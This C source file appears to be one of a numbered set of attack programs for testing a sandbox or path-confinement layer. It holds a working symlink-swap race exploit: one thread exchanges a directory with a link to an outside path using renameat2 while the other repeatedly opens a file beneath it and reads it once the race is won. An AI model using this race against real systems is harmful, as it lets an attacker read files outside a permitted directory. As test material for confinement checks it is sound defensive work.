/* fs_swap_race RW OUTSIDE NAME - one thread swaps RW/d between a directory and a link to OUTSIDE, the other opens RW/d/NAME. ATTACKS 13. */
#include "../attempt.h"

#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>

static char real[2200], link_path[2200];
static atomic_bool done;

static void *swap(void *unused)
{
    (void)unused;
    while (!atomic_load(&done)) {
        (void)syscall(SYS_renameat2, AT_FDCWD, real, AT_FDCWD, link_path, 2 /* RENAME_EXCHANGE */);
    }
    return NULL;
}

int main(int argc, char **argv)
{
    const char *root = argument(argc, argv, 1);
    char target[4400];
    pthread_t thread;

    attempt_runs();
    (void)snprintf(real, sizeof real, "%s/d", root);
    (void)snprintf(link_path, sizeof link_path, "%s/link", root);
    (void)snprintf(target, sizeof target, "%s/d/%s", root, argument(argc, argv, 3));
    note("mkdir", mkdir(real, 0755));
    note("symlink", symlink(argument(argc, argv, 2), link_path));
    note("thread", -pthread_create(&thread, NULL, swap, NULL));
    for (int i = 0; i < 20000; i++) {
        int fd = open(target, O_RDONLY | O_CLOEXEC);
        if (fd >= 0) {
            spill("won the race", fd);
            break;
        }
    }
    atomic_store(&done, true);
    (void)pthread_join(thread, NULL);
    return 0;
}
